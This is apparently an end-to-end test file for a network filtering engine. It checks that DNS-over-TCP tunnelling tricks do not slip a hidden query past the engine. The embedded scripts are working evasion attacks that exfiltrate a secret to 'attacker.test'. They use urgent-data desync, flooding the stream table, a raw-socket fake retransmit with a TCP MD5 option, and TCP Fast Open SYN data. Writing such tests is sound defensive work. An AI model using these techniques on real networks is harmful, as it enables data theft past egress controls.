"""DNS over TCP read the way the resolver reads it. The engine judges a query stream's
messages; when the resolver's view of the stream can differ from the engine's, a query the
engine never saw reaches the resolver, and its name is the tunnel. Three ways to make them
differ: urgent data (the resolver's recv() skips the urgent byte, the engine read it), a
stream the engine forgot (its table of streams is bounded: thousands of other streams push
one out, and it used to be read afresh from the next segment, mid-message), both by an
unprivileged process; and, with a container's CAP_NET_RAW, a "retransmit" of bytes the
engine read whose first copy the server dropped (an unexpected MD5 signature option),
carrying other bytes.

The server side here reads the stream as a resolver does (recv(), so without the urgent
byte); the test frames what it read (RFC 7766) and looks for the secret name."""

from __future__ import annotations

import re
import struct
import sys
import uuid

import pytest

from tests.e2e.lab import ALLOWED_V4, CONTAINER_V4, Lab, Recording
from tests.e2e.policies import everyone, web_by_name

dns_message = pytest.importorskip("dns.message")

POLICY = everyone(web_by_name(80, 443))

# Shared by the attackers: a query's wire form, and a query for an allowed name whose last
# EDNS option carries `tail` (and is `size` bytes long in all).
BUILD = r"""
import socket, struct, sys, time
def name(text):
    return b"".join(bytes([len(p)]) + p.encode() for p in text.split(".")) + b"\0"
def query(ident, text, edns=b""):
    head = struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 1 if edns else 0)
    return head + name(text) + b"\0\1\0\1" + edns
def opt(data):
    option = struct.pack("!HH", 65001, len(data)) + data
    return b"\0" + struct.pack("!HHIH", 41, 4096, 0, len(option)) + option
def framed(message):
    return struct.pack("!H", len(message)) + message
dst, secret = sys.argv[1], sys.argv[2]
allowed = "www.allowed.test"
hidden = query(0x4242, secret + ".attacker.test")
"""

# Urgent data: the first query's last byte is sent urgent (MSG_OOB), so the resolver reads
# one byte less; the second query (256 bytes, so its length prefix is 01 00 and its id's
# high byte 60) is then framed by the resolver one byte later: a 60-byte message of
# garbage, and then the hidden query, which the engine read as EDNS option data.
URGENT = BUILD + r"""
s = socket.create_connection((dst, 53), timeout=3)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
first = framed(query(1, allowed))
s.send(first[:-1])
s.send(first[-1:], socket.MSG_OOB)
time.sleep(0.3)
head = query(60 << 8 | 1, allowed)
padding = 256 - len(head) - 11 - 4
data = bytearray(padding)
inner = 63 - len(head) - 11 - 4  # where the resolver's third length prefix falls in the data
data[inner:inner + 2 + len(hidden)] = framed(hidden)
data[inner + 2 + len(hidden):inner + 4 + len(hidden)] = b"\xff\xff"
second = query(60 << 8 | 1, allowed, opt(bytes(data)))
assert len(second) == 256, len(second)
try:
    s.send(framed(second))
    time.sleep(0.5)
except OSError as exc:
    print(exc)
s.close()
"""

# A forgotten stream: the first segment holds an allowed query and the head of the hidden
# one (up to its EDNS option's header), which the resolver buffers; thousands of other
# streams push this one out of the engine's table; the next segment is the option's data,
# which read afresh is one more allowed query, and which the resolver reads as the rest of
# the hidden query.
FORGOTTEN = BUILD + r"""
streams = int(sys.argv[3])
tail = framed(query(2, allowed))
whole = query(0x4242, secret + ".attacker.test", opt(tail))
s = socket.create_connection((dst, 53), timeout=3)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
s.send(framed(query(1, allowed)) + framed(whole)[:-len(tail)])
time.sleep(0.3)
opened = 0
for i in range(streams):
    try:
        other = socket.create_connection((dst, 53), timeout=5)
        other.send(framed(query(i & 0xFFFF, allowed)))
        other.close()
        opened += 1
    except OSError:
        pass
print("others", opened)
try:
    s.send(tail)
    time.sleep(0.5)
except OSError as exc:
    print(exc)
s.close()
"""


def frames(data: bytes) -> list[bytes]:
    """The messages a resolver reads from a TCP stream's bytes."""
    out = []
    while len(data) >= 2:
        (size,) = struct.unpack("!H", data[:2])
        if len(data) < 2 + size:
            break
        out.append(data[2:2 + size])
        data = data[2 + size:]
    return out


def names_read(recording: Recording) -> list[str]:
    """Every question name the resolver could parse from what it read."""
    names = []
    for record in recording.records():
        for message in frames(record["data"]):
            try:
                parsed = dns_message.from_wire(message)
            except Exception:
                continue
            names += [question.name.to_text() for question in parsed.question]
    return names


def secret() -> str:
    return f"s{uuid.uuid4().hex}"


METRICS = "127.0.0.1:9827"


def attack(lab: Lab, script: str, *args: str) -> tuple[Recording, str]:
    leak = secret()
    recording = lab.record_tcp(ALLOWED_V4, 53)
    lab.start_engine(lab.write_config(POLICY, metrics={"listen": METRICS}))
    out = lab.exec(lab.client, sys.executable, "-c", script, ALLOWED_V4, leak, *args,
                   timeout=120)
    assert "Traceback" not in out.stderr, out.stderr
    lab.exec(lab.client, "sleep", "6")  # the recorder writes a connection when it ends
    return recording, leak


def test_urgent_data_does_not_hide_a_query_from_the_engine(lab: Lab) -> None:
    recording, leak = attack(lab, URGENT)
    assert not [n for n in names_read(recording) if leak in n], "the hidden query was read"


def test_a_stream_pushed_out_of_the_engines_table_is_not_read_afresh(lab: Lab) -> None:
    recording, leak = attack(lab, FORGOTTEN, "4200")
    read = names_read(recording)
    assert "www.allowed.test." in read, "the server reads what the engine allowed"
    assert not [n for n in read if leak in n], "the hidden query was read"
    metrics = lab.exec(lab.client, "curl", "-sS", f"http://{METRICS}/metrics").stdout
    cut = re.search(r"^nfguard_dns_streams_cut_total (\S+)", metrics, re.M)
    assert cut and float(cut.group(1)) > 0, "the stream was pushed out, and cut"


# From a container with CAP_NET_RAW: a real connection; a raw segment at its next sequence
# number carrying an allowed query and a TCP MD5 signature option (the server, which has
# no key, drops it; the engine read it); then the same sequence number again, without the
# option, carrying the hidden query, as long: once a "retransmit" of bytes already judged.
REPLAYED = BUILD + r"""
from scapy.all import IP, TCP
sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
sniffer.bind(("eth0", 0))
s = socket.create_connection((dst, 53), timeout=3)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
first = framed(query(1, allowed))
s.send(first)
sport = s.getsockname()[1]
while True:
    frame, meta = sniffer.recvfrom(65535)
    if meta[2] != socket.PACKET_OUTGOING or frame[12:14] != b"\x08\x00":
        continue
    packet = IP(frame[14:])
    if TCP in packet and packet[TCP].sport == sport and len(packet[TCP].payload) == len(first):
        seq, ack = packet[TCP].seq + len(first), packet[TCP].ack
        break
hidden_frame = framed(hidden)
decoy = framed(query(2, "w" * (len(secret) + len(".attacker.test") - len(".allowed.test"))
                     + ".allowed.test"))
assert len(decoy) == len(hidden_frame), (len(decoy), len(hidden_frame))
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
base = IP(src=sys.argv[3], dst=dst)
md5 = [(19, b"\0" * 16)]
for options, data in ((md5, decoy), ([], hidden_frame)):
    segment = base / TCP(sport=sport, dport=53, flags="PA", seq=seq, ack=ack,
                         window=502, options=options) / data
    raw.sendto(bytes(segment), (dst, 0))
    time.sleep(0.3)
s.close()
"""


def test_a_retransmit_carries_exactly_the_bytes_the_engine_read(lab: Lab) -> None:
    leak = secret()
    lab.add_container()
    recording = lab.record_tcp(ALLOWED_V4, 53)
    lab.start_engine(lab.write_config(POLICY, forward_from=["docker0"]))
    out = lab.exec(lab.container, sys.executable, "-c", REPLAYED, ALLOWED_V4, leak,
                   CONTAINER_V4, timeout=60)
    assert "Traceback" not in out.stderr, out.stderr
    lab.exec(lab.client, "sleep", "6")
    read = names_read(recording)
    assert "www.allowed.test." in read, "the server reads what the engine allowed"
    assert not [n for n in read if leak in n], "the hidden query was read"


# A local stub that takes TCP Fast Open (the host's net.ipv4.tcp_fastopen has the server
# bit): what it reads from each connection, hex, one line each.
FASTOPEN_STUB = r"""
import socket, sys
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_FASTOPEN, 16)
s.bind(("127.0.0.53", 53))
s.listen(16)
out = open(sys.argv[1], "a")
while True:
    conn, _ = s.accept()
    conn.settimeout(1)
    got = b""
    try:
        while data := conn.recv(65536):
            got += data
    except OSError:
        pass
    conn.close()
    out.write('{"peer": [], "data": "%s"}\n' % got.hex())
    out.flush()
"""

# The hidden query in the SYN (a cookie from a first connection, then data with it).
FASTOPEN = BUILD + r"""
for _ in range(3):
    s = socket.socket()
    try:
        s.sendto(framed(hidden), socket.MSG_FASTOPEN, (dst, 53))
        time.sleep(1.5)  # a SYN whose data was dropped is sent again without it after 1 s
    except OSError as exc:
        print(exc)
    s.close()
"""


def test_a_query_in_the_syn_to_a_local_stub_is_judged(lab: Lab) -> None:
    lab.exec(lab.client, "sysctl", "-qw", "net.ipv4.tcp_fastopen=3", check=True)
    recording = Recording(lab.workdir / "stub.jsonl")
    lab.spawn(lab.client, sys.executable, "-c", FASTOPEN_STUB, str(recording.path))
    lab.wait_until(lambda: "127.0.0.53:53" in lab.exec(lab.client, "ss", "-Hltn").stdout)
    lab.start_engine(lab.write_config(POLICY))
    leak = secret()
    out = lab.exec(lab.client, sys.executable, "-c", FASTOPEN, "127.0.0.53", leak, timeout=30)
    assert "Traceback" not in out.stderr, out.stderr
    event = lab.wait_for_event(
        lambda e: leak in e.get("dns", {}).get("question", {}).get("name", ""))
    assert event["event"]["action"] == "deny", "judged once sent after the handshake"
    lab.exec(lab.client, "sleep", "2")
    assert not [n for n in names_read(recording) if leak in n], "the hidden query was read"
